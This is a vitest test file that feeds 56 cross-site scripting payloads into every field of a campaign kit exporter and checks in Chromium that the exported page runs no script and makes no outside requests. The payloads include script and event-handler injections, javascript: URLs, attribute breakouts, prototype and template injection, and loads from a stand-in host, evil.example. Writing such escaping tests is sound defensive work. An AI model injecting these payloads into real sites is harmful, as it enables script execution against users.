import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { describe, expect, test } from "vitest";
import { bluehart, temporaryFolder, write } from "../../cli/bluehart.ts";
import { has } from "../../tools.ts";
import { cardOf, clipboard, copyFrom, useChromium, violations } from "./browser.ts";

const RUN = "alert(1)";

/** Ways to get a script to run, in every place where a text of the campaign could be taken for something else. */
const PAYLOADS: readonly string[] = [
  // Elements and their handlers.
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="https://evil.example/x.png">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  // What ends the element or the attribute that holds it.
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `" onmouseover="${RUN}`,
  `' onfocus='${RUN}' autofocus='`,
  `" style="background:url(javascript:${RUN})`,
  `\`-${RUN}-\``,
  `"-${RUN}-"`,
  `\\"};${RUN};//`,
  `\u2028${RUN}\u2029`,
  `<!--<script>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  // Addresses.
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:msgbox(1)`,
  `https://a.be/"onmouseover="${RUN}`,
  `https://a.be/?x='><script>${RUN}</script>`,
  // Templates and prototypes.
  `{{constructor.constructor('${RUN}')()}}`,
  `__proto__`,
];

const all = PAYLOADS.join(" ");
/** Without placeholders, which a text outside of posts may not leave open. */
const plain = all.replaceAll("{{", "{ {");
const folder = temporaryFolder();
write(
  folder,
  "logo.svg",
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="${RUN}">${PAYLOADS.slice(0, 10).join("").replace(/[&]/g, "")}<rect width="9" height="9"/></svg>`,
);
write(
  folder,
  "pixel.png",
  Buffer.from(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
    "base64",
  ),
);
const campaign = {
  title: plain,
  description: plain,
  languages: ["en", "nl"],
  day: { date: "07-30", name: plain, source: { title: plain, url: `javascript:${RUN}` } },
  brand: { color: "#0b5cab", logo: "logo.svg", organisation: plain, contact: plain },
  background: [{ heading: plain, text: `${plain}\n\n- ${PAYLOADS.join("\n- ").replaceAll("{{", "{ {")}` }],
  helplines: [{ name: plain, phone: plain, site: `javascript:${RUN}`, region: plain, note: plain }],
  facts: [
    {
      id: "a",
      figure: plain,
      statement: plain,
      source: { title: plain, url: `javascript:${RUN}` },
      supersededBy: "b",
    },
    { id: "b", figure: "1", statement: plain },
  ],
  values: { town: all },
  posts: PAYLOADS.map((payload, index) => ({
    id: `p${index}`,
    platforms: ["mastodon"],
    when: "day, 09:00",
    contentWarning: payload,
    text: { en: payload, nl: index === 0 ? "{{town}}" : `Bericht ${index}` },
    images: [{ file: "pixel.png", alt: { en: payload, nl: payload } }],
  })),
};
const kit = join(folder, "hostile.html");
const file = write(folder, "hostile.yaml", JSON.stringify(campaign));
const { err } = bluehart([
  "export",
  kit,
  "-c",
  file,
  "--today",
  "2027-01-31",
  "--url",
  `https://a.be/?'"><script>${RUN}</script>`,
]);

test("there are 56 payloads", () => {
  expect(PAYLOADS).toHaveLength(56);
  expect(err).not.toContain("bug");
});

describe.runIf(has("chromium"))("a hostile campaign, in every field", () => {
  const load = useChromium();

  test("runs no script and asks for nothing, however the page is used", async () => {
    const { page, complaints, requests } = await load(kit);
    const texts = await page.locator('article[data-lang="en"] textarea').evaluateAll((fields) =>
      fields.map((field) => {
        field.focus();
        return field instanceof HTMLTextAreaElement ? field.value : "";
      }),
    );
    expect(texts).toEqual(PAYLOADS.map((payload) => payload.trim()));
    await page.getByRole("button", { name: "Nederlands" }).click();
    await page.locator('input[name="town"]').fill(all);
    await page.locator('[name="view.search"]').fill(all);
    await page.getByRole("button", { name: "English" }).click();
    await page.locator("[data-island]").evaluateAll((islands) => {
      for (const island of islands) island.dispatchEvent(new PointerEvent("pointerdown", { bubbles: true }));
    });
    await page.reload();
    await page.mouse.wheel(0, 20_000);
    expect(complaints).toEqual([]);
    const asked = requests.filter((address) => !address.startsWith("data:"));
    expect(new Set(asked.map((address) => address.replace(/#.*$/s, "")))).toEqual(
      new Set([pathToFileURL(kit).href]),
    );
    // The kit’s own: words in two languages, the program in two parts, and its data.
    expect(await page.locator("script").count()).toBe(2 + 2 + 1);
    expect(
      await page.locator("iframe, object, embed, form, base, audio, video, template, marquee").count(),
    ).toBe(0);
    expect(await page.locator("meta[http-equiv]").count()).toBe(1);
    const schemes = await page.evaluate(() => Array.from(document.links, ({ protocol }) => protocol));
    expect([...new Set(schemes)].sort()).toEqual(["file:", "https:", "tel:"]);
    const handlers = await page.evaluate(() =>
      Array.from(document.querySelectorAll("*")).flatMap((element) =>
        element.getAttributeNames().filter((name) => name.startsWith("on")),
      ),
    );
    expect(handlers).toEqual([]);
  });

  test("is copied byte for byte, opened from a saved file, and read by axe without a complaint", async () => {
    const { page, complaints } = await load(kit, { viewport: { width: 320, height: 568 } });
    const card = cardOf(page, "p0", "mastodon");
    expect(await copyFrom(card)).toBe(PAYLOADS[0]);
    const saved = {
      format: "bluehart-changes",
      version: 1,
      kit: all,
      edits: {},
      values: { town: all },
      done: [all],
    };
    const changes = {
      ...saved,
      edits: { "p1/mastodon/en": all, [all]: all, __proto__: { a: "b" } },
      server: all,
    };
    await page
      .locator('input[type="file"]')
      .setInputFiles(write(folder, "changes.json", JSON.stringify(changes)));
    await cardOf(page, "p1", "mastodon").locator('[data-action="restore"]').waitFor();
    const day = page.locator('[data-action="copy-day"]').first();
    await day.click();
    await page.locator("#status:not(.unseen)").waitFor();
    expect(await clipboard(page)).toContain(PAYLOADS[2]);
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
    expect(await violations(page)).toEqual([]);
    expect(complaints).toEqual([]);
  });
});
